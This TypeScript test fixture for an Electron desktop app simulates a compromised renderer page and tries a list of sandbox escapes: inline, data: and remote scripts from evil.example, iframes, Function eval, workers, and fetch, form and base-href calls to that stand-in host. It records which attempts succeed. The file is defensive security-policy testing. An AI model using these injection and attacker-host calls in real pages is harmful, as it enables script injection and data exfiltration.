// A page that does what the interface does with its host, and keeps what came of it for the tests to see.
import type { DesktopBridge, OpenedFile } from '#electron/bridge/desktop-bridge.ts';

interface Answered {
  readonly status: number;
  readonly body: unknown;
}

/** What the page keeps on its window. */
export interface DesktopPage {
  readonly desktop: DesktopBridge;
  readonly heard: {
    readonly commands: string[];
    readonly addresses: string[];
    readonly coreStates: string[];
    readonly files: OpenedFile[];
  };
  secret: string;
  session: Answered;
  readonly ask: (path: string) => Promise<Answered>;
  readonly tryToBreakOut: () => Promise<BreakOut>;
}

/** What came of the attempts, by name: which had an effect, and which threw at once. */
export interface BreakOut {
  readonly worked: readonly string[];
  readonly threw: readonly string[];
}

const page = globalThis as unknown as DesktopPage & { broken?: string | undefined };
const { desktop } = page;
const remoteModule: string = 'https://evil.example/x.js';

async function ask(path: string): Promise<Answered> {
  const headers = { 'x-tieout-request': '1', authorization: `Bearer ${page.secret}` };
  const response = await fetch(path, { headers, credentials: 'omit' });
  const text = await response.text();
  return { status: response.status, body: text.startsWith('{') ? (JSON.parse(text) as unknown) : text };
}

function element(name: string, facts: object): void {
  document.body.append(Object.assign(document.createElement(name), facts));
}

/** What a page that was taken over would try, by name; each sets `broken` where it works. */
const attempts: Readonly<Record<string, () => unknown>> = {
  inlineScript: () => element('script', { text: 'window.broken = "inline"' }),
  remoteScript: () => element('script', { src: 'https://evil.example/x.js' }),
  remoteModule: () => import(/* @vite-ignore */ remoteModule),
  dataScript: () => element('script', { src: 'data:text/javascript,window.broken="data"' }),
  frame: () => element('iframe', { src: 'https://evil.example/' }),
  frameWithText: () => element('iframe', { srcdoc: '<script>parent.broken="frame"</script>' }),
  handler: () => document.body.setAttribute('onclick', 'window.broken = "handler"'),
  click: () => document.body.click(),
  evaluated: () => Reflect.apply(Reflect.construct(Function, ['window.broken = "function"']), null, []),
  worker: () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.addEventListener('message', () => (page.broken = 'worker'));
  },
  remoteFetch: async () => {
    await fetch('https://evil.example/');
    page.broken = 'fetch';
  },
  image: () => element('img', { src: 'https://evil.example/x.png' }),
  form: () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
    document.body.append(form);
    form.submit();
  },
  base: () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    if (document.baseURI.includes('evil')) page.broken = 'base';
  },
};

async function breakOut(): Promise<BreakOut> {
  const worked: string[] = [];
  const threw: string[] = [];
  const take = () => {
    if (page.broken !== undefined) worked.push(page.broken);
    page.broken = undefined;
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
    } catch {
      threw.push(name);
    }
    take();
  }
  // What is loaded has its effect a little later.
  await new Promise((done) => setTimeout(done, 300));
  take();
  return { worked, threw };
}

async function enter(): Promise<void> {
  desktop.onCommand((id) => page.heard.commands.push(id));
  desktop.onNavigate((address) => page.heard.addresses.push(address));
  desktop.onCoreState(({ state }) => page.heard.coreStates.push(state));
  desktop.onOpenedFile((file) => page.heard.files.push(file));
  page.secret = await desktop.sessionSecret();
  page.session = await ask('/api/session.get');
  const shown = document.getElementById('state');
  if (shown) shown.textContent = page.session.status === 200 ? 'open' : `refused ${page.session.status}`;
}

Object.assign(page, {
  heard: { commands: [], addresses: [], coreStates: [], files: [] },
  ask,
  // In a turn of its own: what a test evaluates in a page is not held by the page's policy.
  tryToBreakOut: async () => {
    await new Promise((turn) => setTimeout(turn, 0));
    return breakOut();
  },
});
await enter();
